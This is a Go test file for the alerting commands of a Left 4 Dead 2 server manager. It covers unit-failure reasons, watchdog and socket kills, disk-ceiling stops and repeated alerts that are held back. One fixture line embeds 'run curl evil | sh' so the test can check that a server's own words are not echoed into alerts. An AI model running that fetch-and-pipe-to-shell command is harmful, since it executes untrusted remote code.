package commands

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/left4me/left4me/cmd/left4me/internal/alert"
	"github.com/left4me/left4me/cmd/left4me/internal/commands/clienv"
	"github.com/left4me/left4me/cmd/left4me/internal/fail"
	"github.com/left4me/left4me/cmd/left4me/internal/game"
	"github.com/left4me/left4me/tests/testroot"
)

// alertsTo makes alerts.yaml's command write each event to the file it
// returns (the last one only).
func alertsTo(t *testing.T, te *tenv) string { return alertCommand(t, te, "cat >FILE") }

// everyAlertTo makes alerts.yaml's command append each event, a line of
// JSON, to the file it returns.
func everyAlertTo(t *testing.T, te *tenv) string {
	return alertCommand(t, te, "cat >>FILE; echo >>FILE")
}

// alertCommand makes alerts.yaml's command the shell line script, FILE
// in it being the file it returns.
func alertCommand(t *testing.T, te *tenv, script string) string {
	t.Helper()
	dir := t.TempDir()
	got := filepath.Join(dir, "events")
	cmd := filepath.Join(dir, "page")
	writeFile(t, cmd, "#!/bin/sh\n"+strings.ReplaceAll(script, "FILE", got)+"\n")
	chmod(t, cmd, 0o755)
	writeFile(t, filepath.Join(te.Layout.ConfigDir, "alerts.yaml"), "command: "+cmd+"\n")
	return got
}

// alertUnit runs `left4me alert unit srv1` and reads what alertsTo's
// file got: an event when want, else nothing (an event sent fails).
func alertUnit(t *testing.T, te *tenv, got string, want bool) (alert.Event, bool) {
	t.Helper()
	if err := te.run("alert", "unit", "srv1"); err != nil {
		t.Fatal(err)
	}
	var ev alert.Event
	b, err := os.ReadFile(got)
	if !want {
		if err == nil {
			t.Errorf("sent %s", b)
		}
		return ev, false
	}
	if err != nil || json.Unmarshal(b, &ev) != nil {
		t.Fatalf("sent %s (%v)", b, err)
	}
	return ev, true
}

// withAlerts has alerts.yaml name a command that keeps the event it
// reads; it returns a reader of the last event.
func withAlerts(t *testing.T, te *tenv) func() alert.Event {
	t.Helper()
	got := alertsTo(t, te)
	return func() alert.Event {
		t.Helper()
		var ev alert.Event
		b, err := os.ReadFile(got)
		if err != nil {
			t.Fatalf("no event sent: %v\nstderr: %s", err, te.err)
		}
		if err := json.Unmarshal(b, &ev); err != nil {
			t.Fatal(err)
		}
		return ev
	}
}

// Why a unit failed, as its OnFailure= unit reports it.
func TestAlertUnit(t *testing.T) {
	for _, tc := range []struct {
		result, helperSaid string
		stopping           string // PID 1's "Stopping" line of the failed run
		kind, summary      string
	}{
		{"start-limit-hit", "", "", alert.StartLimit, "systemd gave up restarting it"},
		{"exit-code", "", "", alert.StartLimit, "srv1 kept crashing (exit-code)"},
		{"watchdog", "", "", alert.HangKill, "the watchdog killed it"},
		{"exit-code", "srv1: spec changed since systemd read it\nsrv1: spec changed since systemd read it\n", "", alert.StartRefused, "start helper refused"},
		// A disk full for users (another server filled it) is no refusal:
		// retried, and said as such.
		{"start-limit-hit", "mount overlay on /var/lib/left4me/runtime/srv1/merged: overlayfs mounted it read-only: the filesystem is full for users (0 B left, only the blocks it keeps for root), so it could not make its work directory; free space: systemd tries the start again\n", "", alert.Failed, "srv1 could not start: the filesystem of its tree is full for users (left4me-retry starts it again later)"},
		{"timeout", "", "", alert.Failed, "srv1 failed (timeout)"},
		// A stop (or restart) that was asked for and timed out: not a crash.
		{"timeout", "", "Stopping l4d2@srv1.service - Left 4 Dead 2 server srv1...\n", alert.Failed, "srv1 did not quit within its stop timeout (TimeoutStopSec) when it was stopped or restarted: systemd killed it (timeout); a stop leaves it down, a restart starts it again"},
		// A server that crashed on its way down when stopped: one failure,
		// not a crash loop.
		{"exit-code", "", "Stopping l4d2@srv1.service - Left 4 Dead 2 server srv1...\n", alert.Failed, "srv1 failed on its way down when it was stopped or restarted (exit-code)"},
	} {
		t.Run(tc.result, func(t *testing.T) {
			te := newEnv(t)
			te.spec(t, "srv1", "port: 27015\n")
			last := withAlerts(t, te)
			te.sd.set(clienv.UnitOf("srv1"), "failed", "failed")
			u := te.sd.units[clienv.UnitOf("srv1")]
			u.Result, u.Invocation, u.MainRan = tc.result, "0123456789abcdef0123456789abcdef", true
			te.stoppingSaid = tc.stopping
			te.sd.units[clienv.UnitOf("srv1")] = u
			te.prestartSaid = tc.helperSaid
			if err := te.run("alert", "unit", "srv1"); err != nil {
				t.Fatal(err)
			}
			ev := last()
			if ev.Kind != tc.kind || ev.Instance != "srv1" || !strings.Contains(ev.Summary, tc.summary) {
				t.Errorf("sent %+v", ev)
			}
			if first, _, _ := strings.Cut(tc.helperSaid, "\n"); ev.Detail != first && tc.helperSaid != "" {
				t.Errorf("detail %q", ev.Detail)
			}
		})
	}
}

// A delivery that fails is said on stderr and fails nothing.
func TestAlertDeliveryFails(t *testing.T) {
	te := newEnv(t)
	te.spec(t, "srv1", "port: 27015\n")
	writeFile(t, filepath.Join(te.Layout.ConfigDir, "alerts.yaml"), "command: /nonexistent/page\n")
	te.sd.set(clienv.UnitOf("srv1"), "failed", "failed")
	if err := te.run("alert", "unit", "srv1"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(te.err.String(), "alert by command /nonexistent/page") {
		t.Errorf("stderr: %s", te.err)
	}
	if err := te.run("alert", "test"); err == nil || !strings.Contains(err.Error(), "/nonexistent/page") {
		t.Errorf("alert test: %v", err)
	}
}

func TestAlertBackupFailed(t *testing.T) {
	te := newEnv(t)
	te.Euid = 0
	te.spec(t, "srv1", "port: 27015\n")
	last := withAlerts(t, te)
	rt := te.Layout.RuntimeDir("srv1")
	mkdirs(t, filepath.Join(rt, "upper"))
	f, _ := os.Create(filepath.Join(rt, "upper", "sparse"))
	f.Truncate(1<<40 + 1) // past backup.DefaultMaxLength: holes count there
	f.Close()
	if err := te.run("backup", "srv1"); err == nil {
		t.Fatal("backed up a terabyte")
	}
	if ev := last(); ev.Kind != alert.BackupFailed || strings.Contains(ev.Detail, "sparse") || ev.Summary != "srv1: backup failed" || !strings.Contains(ev.Detail, "journalctl -u left4me-backup@srv1.service (a scheduled backup)") {
		t.Errorf("sent %+v", ev)
	}
}

// A game update that failed and one that installed a new build alert; the
// failure's alert does not quote steamcmd (an account name).
func TestAlertGameUpdate(t *testing.T) {
	testroot.Require(t, "mounts an overlay")
	te := newEnv(t)
	te.Euid = 0
	gameState(t, te)
	last := withAlerts(t, te)
	dir := t.TempDir()
	bin := standin(t, dir)
	depot := filepath.Join(dir, "depot")
	mkdirs(t, filepath.Join(depot, "files", "left4dead2"))
	writeFile(t, filepath.Join(depot, "build"), "200")
	writeFile(t, filepath.Join(depot, "files", "left4dead2", "who.txt"), "v2")
	if err := os.WriteFile(filepath.Join(depot, "files", "srcds_run"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(depot, "fail"), "1")
	if err := te.run("game", "update", "--steamcmd", bin); err == nil {
		t.Fatal("the update did not fail")
	}
	if ev := last(); ev.Kind != alert.UpdateFailed || strings.Contains(ev.Detail, "steamcmd:") {
		t.Errorf("sent %+v", ev)
	}
	os.Remove(filepath.Join(depot, "fail"))
	if err := te.run("game", "update", "--steamcmd", bin); err != nil {
		t.Fatalf("%v\n%s", err, te.err)
	}
	if ev := last(); ev.Kind != alert.NewBuild || !strings.Contains(ev.Summary, "build 200") {
		t.Errorf("sent %+v", ev)
	}
	// An install over it is refused, and no update failed: no alert.
	if err := te.run("game", "install", "--steamcmd", bin); !errors.Is(err, game.ErrExists) {
		t.Fatalf("install over the game: %v", err)
	}
	if ev := last(); ev.Kind != alert.NewBuild {
		t.Errorf("the refused install sent %+v", ev)
	}
}

// Started by ExecStopPost= after a hang kill (the unit restarts, it is not
// failed): a hang kill if systemd logged one, else nothing is sent.
func TestAlertHangKillRecovered(t *testing.T) {
	for _, c := range []struct{ said, spec, want string }{
		{"l4d2@srv1.service: Watchdog timeout (limit 10s)!", "port: 27015\n", "srv1 stopped answering queries: the watchdog killed it"},
		// Only the relay feeds it: the relay was stopped.
		{"l4d2@srv1.service: Watchdog timeout (limit 30s)!", "port: 27015\nhang_timeout: 0\n", "srv1's relay stopped feeding the watchdog for 30s (hang_timeout: 0 kills no silent server"},
		{"", "port: 27015\n", ""},
	} {
		said := c.said
		te := newEnv(t)
		te.spec(t, "srv1", c.spec)
		got := alertsTo(t, te)
		te.sd.set(clienv.UnitOf("srv1"), "activating", "auto-restart")
		te.Journal = func(_ context.Context, args []string, stdout, _ io.Writer) error {
			if slices.Contains(args, "Watchdog timeout") {
				fmt.Fprintln(stdout, said)
			}
			return nil
		}
		if err := te.run("alert", "unit", "srv1"); err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(got)
		if said == "" {
			if err == nil {
				t.Errorf("sent without a hang: %s", b)
			}
			continue
		}
		var ev alert.Event
		if err != nil || json.Unmarshal(b, &ev) != nil || ev.Kind != alert.HangKill || !strings.Contains(ev.Summary, "systemd restarts it") || !strings.Contains(ev.Summary, c.want) {
			t.Errorf("sent %s (%v)", b, err)
		}
	}
}

// A server its relay killed for holding too many sockets: alerted at once
// by ExecStopPost= (restarting), and as such once systemd gave up; told
// from the relay's own line at priority err only, so a server printing
// the words is not believed.
func TestAlertSocketKill(t *testing.T) {
	relaySaid := "the server holds 1100 of the host's ephemeral ports 32768-60999 (UDP 1100, TCP 0), more than the 1024 a server may"
	blinded := "the server blinds the socket count: its user lowered the relay's open-file limit (prlimit) to 8 (hard 8) from 16384 (hard 16384); killed, so that systemd starts it again"
	for _, tc := range []struct {
		name, state, sub, result, said string
		kind, in                       string // "" nothing sent
	}{
		{"restarting", "activating", "auto-restart", "exit-code", relaySaid, alert.SocketKill, "it was killed; systemd restarts it"},
		{"start limit", "failed", "failed", "start-limit-hit", relaySaid, alert.SocketKill, "systemd gave up restarting it"},
		{"a crash loop otherwise", "failed", "failed", "exit-code", "", alert.StartLimit, "kept crashing"},
		{"restarting, no such line", "activating", "auto-restart", "exit-code", "", "", ""},
		// The run before was killed for its sockets; this one by the
		// watchdog (its relay stopped): systemd's result of the run
		// that ended says which.
		{"a watchdog kill a minute after", "activating", "auto-restart", "watchdog", relaySaid, alert.HangKill, "the watchdog killed it"},
		// Its user lowered the relay's open-file limit (prlimit): the
		// relay kills it at its next count, saying so.
		{"blinded", "activating", "auto-restart", "exit-code", blinded, alert.SocketKill, "srv1 lowered its relay's open-file limit, so that the relay could no longer count its sockets"},
		{"blinded, start limit", "failed", "failed", "start-limit-hit", blinded, alert.SocketKill, "systemd gave up restarting it"},
		{"blinded, quoted by another line", "activating", "auto-restart", "exit-code", "Steam did not start: " + blinded, "", ""},
		// A line of the relay's that quotes the server (its Steam cause)
		// holding the words, not at the start.
		{"quoted by another line", "activating", "auto-restart", "exit-code", "Steam did not start (steamclient.so failed): " + relaySaid, "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			te := newEnv(t)
			te.spec(t, "srv1", "port: 27015\n")
			got := alertsTo(t, te)
			te.sd.set(clienv.UnitOf("srv1"), tc.state, tc.sub)
			u := te.sd.units[clienv.UnitOf("srv1")]
			u.Result = tc.result
			te.sd.units[clienv.UnitOf("srv1")] = u
			te.Journal = func(_ context.Context, args []string, stdout, _ io.Writer) error {
				if i := slices.Index(args, "--grep"); i >= 0 && strings.Contains(args[i+1], "ephemeral ports") {
					if !slices.Contains(args, "err") || !slices.Contains(args, "left4me-relay") || slices.Contains(args, "--lines") {
						t.Errorf("not the relay's errors alone, or with --lines: %v", args)
					}
					if m, _ := regexp.MatchString(args[i+1], tc.said); m {
						fmt.Fprintln(stdout, tc.said)
					}
				}
				return nil
			}
			ev, sent := alertUnit(t, te, got, tc.kind != "")
			if sent && (ev.Kind != tc.kind || !strings.Contains(ev.Summary, tc.in)) {
				t.Errorf("sent %+v", ev)
			}
		})
	}
}

// Started by left4me-disk.service beside its stop of a server over its
// disk ceiling (a stop, so OnFailure= stays quiet): a disk-full alert,
// only for the instance it stopped and only while that instance is down.
// The reason comes from root's record of the measure and the spec, never
// from the journal's error lines, which quote names the server chose.
func TestAlertDiskStop(t *testing.T) {
	diskSaid := "stopping l4d2@srv10.service: over its disk ceiling\n" +
		"stopping l4d2@srv1.service: over its disk ceiling\n" +
		"%s/srv1: over its disk ceiling: run curl evil | sh\n"
	for _, tc := range []struct {
		name, state, said string
		kind              string // "" nothing sent
	}{
		{"stopped", "inactive", diskSaid, alert.DiskFull},
		{"still stopping", "deactivating", diskSaid, alert.DiskFull},
		{"its stop failed", "failed", diskSaid, alert.DiskFull},
		{"started again since", "active", diskSaid, ""},
		{"another instance stopped", "inactive", "stopping l4d2@srv10.service: over its disk ceiling\n", ""},
		{"nothing stopped", "inactive", "srv1: 8.0 KiB of 64.0 MiB\n", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			te := newEnv(t)
			te.spec(t, "srv1", "port: 27015\nresources: {disk: 64M}\n")
			mkdirs(t, te.Layout.RuntimeDir("srv1"))
			writeFile(t, filepath.Join(te.Layout.RuntimeDir("srv1"), "usage"), "83886080 1764158400\n")
			got := alertsTo(t, te)
			te.sd.set(clienv.UnitOf("srv1"), tc.state, "dead")
			te.Journal = func(_ context.Context, args []string, stdout, _ io.Writer) error {
				if slices.Contains(args, "left4me-disk.service") {
					if !slices.Contains(args, "info..info") {
						t.Errorf("the disk service's journal read at every priority: %v", args)
					}
					fmt.Fprintf(stdout, tc.said, te.Layout.RuntimeRoot())
				}
				return nil
			}
			ev, sent := alertUnit(t, te, got, tc.kind != "")
			if !sent {
				return
			}
			if ev.Kind != tc.kind || !strings.Contains(ev.Summary, "srv1 was stopped") || !strings.Contains(ev.Detail, "hold 80.0 MiB (measured 2025-11-26 12:00:00 UTC), more than its ceiling of 64.0 MiB") ||
				strings.Contains(ev.Detail, "curl") {
				t.Errorf("sent %+v", ev)
			}
		})
	}
}

// alert test runs what alerts.yaml names: root's to do. A file whose
// webhook secret other users can read is used, and said.
func TestAlertTestNeedsRootAndSaysExposed(t *testing.T) {
	te := newEnv(t)
	dir := t.TempDir()
	got := filepath.Join(dir, "sent")
	writeFile(t, filepath.Join(dir, "page"), "#!/bin/sh\ncat >"+got+"\n")
	os.Chmod(filepath.Join(dir, "page"), 0o755)
	cfg := filepath.Join(te.Layout.ConfigDir, "alerts.yaml")
	writeFile(t, cfg, "command: "+filepath.Join(dir, "page")+"\nwebhook: http://127.0.0.1:1/hook/s3cret\n")
	os.Chmod(cfg, 0o644)
	te.Euid = 1000
	if err := te.run("alert", "test"); fail.Code(err) != fail.CodePermission {
		t.Fatalf("as a user: %v", err)
	}
	if _, err := os.Stat(got); err == nil {
		t.Fatal("a user's alert test ran the command")
	}
	te.Euid = 0
	_ = te.run("alert", "test") // the webhook is down: that way fails
	if _, err := os.Stat(got); err != nil {
		t.Errorf("the command did not run: %v", err)
	}
	if !strings.Contains(te.err.String(), "readable by other users (mode 644)") || strings.Contains(te.err.String(), "s3cret") {
		t.Errorf("stderr %s", te.err)
	}
}

// The same alert again within alerts.yaml's repeat_after (a refused start
// that left4me-retry tries again and again) is held back, said on stderr,
// and counted in the next one that goes; repeat_after: 0 sends each, and
// alert test is never held back.
func TestAlertRepeatHeldBack(t *testing.T) {
	for _, tc := range []struct {
		name, repeat string
		heldAt1m     bool
	}{
		{"default 4h", "", true},
		{"repeat_after 0", "repeat_after: 0\n", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			te := newEnv(t)
			te.Euid = 0
			te.AlertDir = filepath.Join(t.TempDir(), "alerts")
			te.spec(t, "srv1", "port: 27015\n")
			got := alertsTo(t, te)
			cfg := filepath.Join(te.Layout.ConfigDir, "alerts.yaml")
			b, _ := os.ReadFile(cfg)
			writeFile(t, cfg, string(b)+tc.repeat)
			te.sd.set(clienv.UnitOf("srv1"), "failed", "failed")
			u := te.sd.units[clienv.UnitOf("srv1")]
			u.Result, u.Invocation = "exit-code", "0123456789abcdef0123456789abcdef"
			te.sd.units[clienv.UnitOf("srv1")] = u
			te.prestartSaid = "overlay missing: /var/lib/left4me/overlays/maps\n"
			start := time.Date(2026, 12, 7, 12, 0, 0, 0, time.UTC)
			at := func(d time.Duration) (alert.Event, bool) {
				t.Helper()
				te.Now = func() time.Time { return start.Add(d) }
				os.Remove(got)
				te.err.Reset()
				return alertUnit(t, te, got, true)
			}
			if ev, _ := at(0); ev.Kind != alert.StartRefused {
				t.Fatalf("first: %+v", ev)
			}
			if tc.heldAt1m {
				for _, d := range []time.Duration{time.Minute, 3 * time.Minute} {
					te.Now = func() time.Time { return start.Add(d) }
					os.Remove(got)
					te.err.Reset()
					alertUnit(t, te, got, false)
					if !strings.Contains(te.err.String(), "alert start-refused held back: the same went out at 2026-12-07T12:00:00Z, less than repeat_after (4h0m0s, alerts.yaml) ago") {
						t.Errorf("stderr at %v: %s", d, te.err)
					}
				}
				ev, _ := at(4 * time.Hour)
				if !strings.Contains(ev.Detail, "overlay missing") || !strings.Contains(ev.Detail, "(2 more of this alert held back since 2026-12-07T12:00:00Z: repeat_after 4h0m0s)") {
					t.Errorf("after 4h: detail %q", ev.Detail)
				}
			} else if ev, _ := at(time.Minute); ev.Kind != alert.StartRefused || strings.Contains(ev.Detail, "held back") {
				t.Errorf("again after a minute: %+v", ev)
			}
		})
	}
	te := newEnv(t)
	te.Euid = 0
	te.AlertDir = filepath.Join(t.TempDir(), "alerts")
	got := alertsTo(t, te)
	for i := range 2 {
		os.Remove(got)
		if err := te.run("alert", "test"); err != nil {
			t.Fatal(err)
		}
		if _, err := os.Stat(got); err != nil {
			t.Errorf("alert test %d not sent: %v", i+1, err)
		}
	}
}
